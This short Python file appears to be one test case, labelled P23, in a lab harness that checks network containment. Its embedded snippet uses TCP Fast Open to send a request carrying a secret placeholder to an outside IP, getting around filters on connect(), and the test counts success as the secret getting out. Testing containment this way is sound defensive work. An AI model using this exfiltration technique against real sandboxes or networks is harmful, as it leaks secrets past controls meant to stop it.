"""sends data with the first packet, before anybody has connected"""

from evidence import secret_left as succeeded

SHAPE = "TCP fast open past filters of connect()"
PROMISE = "P23"
LAB = True
WALLS = "network-namespace"
PYTHON = """
import socket
line = socket.socket()
request = b"GET /@SECRET@ HTTP/1.1\\r\\nHost: www.rwlab.net\\r\\n\\r\\n"
line.sendto(request, 0x20000000, ("93.184.216.10", 80))
line.recv(999)
"""
